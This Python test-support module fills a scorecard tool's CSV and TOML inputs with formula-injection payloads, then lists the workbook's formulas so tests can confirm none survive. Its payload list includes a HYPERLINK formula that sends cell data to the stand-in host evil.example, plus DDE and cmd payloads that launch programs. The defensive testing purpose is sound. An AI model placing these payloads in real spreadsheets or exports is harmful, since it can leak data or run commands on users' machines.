"""Hostile text: formula-injection payloads put into every text field of a data directory.

Every text a council's files or a person's typing can put into a workbook, a return or an
export gets one of :data:`PAYLOADS`, rotating so that every field meets every payload across the
indicators. Comparator words (benchmarks, targets) are text only when they hold no digit, so
they get :data:`WORDS`, payloads without digits.
"""

from __future__ import annotations

import shutil
import zipfile
from pathlib import Path
from xml.etree import ElementTree

from tests.support.catalogue import read_table as _read
from tests.support.catalogue import write_table as _write

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"x")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=2+2",
    "=cmd|' /C notepad'!'A1'",
    '=DDE("cmd","/C calc","A1")',
    "#N/A",
    "'=3+3",
]
"""What OWASP's CSV-injection guidance lists, a DDE call, an error literal and an apostrophe."""
WORDS = ['=HYPERLINK("http://evil.example/","x")', "@SUM(A:A)", "+cmd|' /C calc'!A", "-cmd", "=A"]
"""Payloads with no digit: what a benchmark or target may hold as a word."""
MARKERS = ("evil.example", "cmd", "SUM(", "1+1", "2+3", "2+2", "3+3", "DDE(", "#N/A")
"""Something of every payload: a formula holding one of these came from hostile text."""

INDICATOR_TEXT = ["name", "section", "owner", "reporter", "outcome"]
SETTINGS_TEXT = ["council", "title", "report_name", "benchmark_note"]
NAMES_FILES = {"title"}
"""Settings that name the return's file: a character a file name cannot hold (``|``, ``/``)
is refused there, so they get a payload a file name can hold."""
FILE_SAFE = "+SUM(1)+@A1"


def payload(index: int) -> str:
    return PAYLOADS[index % len(PAYLOADS)]


def as_read(text: str) -> str:
    """The text as xlscorecard keeps it: a CSV cell's surrounding spaces are not kept."""
    return text.strip()


def hostile_data_dir(source: Path, target: Path) -> Path:
    """``source``'s data directory with a payload in every text field."""
    shutil.copytree(source, target)
    rows, header = _read(target / "indicators.csv")
    sections: dict[str, str] = {}
    for index, row in enumerate(rows):
        for offset, column in enumerate(INDICATOR_TEXT):
            if column == "section":
                sections.setdefault(row[column], f"{payload(len(sections) + offset)} section")
                row[column] = sections[row[column]]
            else:
                row[column] = payload(index + offset)
    _write(target / "indicators.csv", header, rows)
    rows, header = _read(target / "commentary.csv")
    for index, row in enumerate(rows):
        row["text"], row["author"] = payload(index), payload(index + 3)
    _write(target / "commentary.csv", header, rows)
    rows, header = _read(target / "benchmarks.csv")
    for index, row in enumerate(rows):
        if not any(ch.isdigit() for ch in row["sn"]):
            row["sn"] = WORDS[index % len(WORDS)]
        row["period"] = payload(index + 1)
    _write(target / "benchmarks.csv", header, rows)
    settings = (target / "council.toml").read_text(encoding="utf-8")
    for offset, key in enumerate(SETTINGS_TEXT):
        lines = settings.splitlines()
        for number, line in enumerate(lines):
            if line.startswith(f"{key} = "):
                text = FILE_SAFE if key in NAMES_FILES else payload(offset + 1)
                lines[number] = f"{key} = {_toml(text)}"
        settings = "\n".join(lines) + "\n"
    settings = settings.replace("[population]", f"contact = {_toml(PAYLOADS[0])}\n\n[population]")
    (target / "council.toml").write_text(settings, encoding="utf-8")
    return target


def _toml(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
    return '"' + escaped.replace("\r", "\\r") + '"'


def hostile(value: object) -> bool:
    """Whether a cell's content carries a payload."""
    return isinstance(value, str) and any(marker in value for marker in MARKERS)


NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def formulas_in_package(path: Path) -> dict[str, list[tuple[str, str]]]:
    """Every ``<f>`` of every sheet of a workbook, as Excel reads them: (cell, formula)."""
    found: dict[str, list[tuple[str, str]]] = {}
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/sheet") and name.endswith(".xml"):
                tree = ElementTree.fromstring(package.read(name))
                found[name] = [
                    (cell.get("r", ""), formula.text or "")
                    for cell in tree.iter(f"{{{NS['m']}}}c")
                    if (formula := cell.find("m:f", NS)) is not None
                ]
    return found
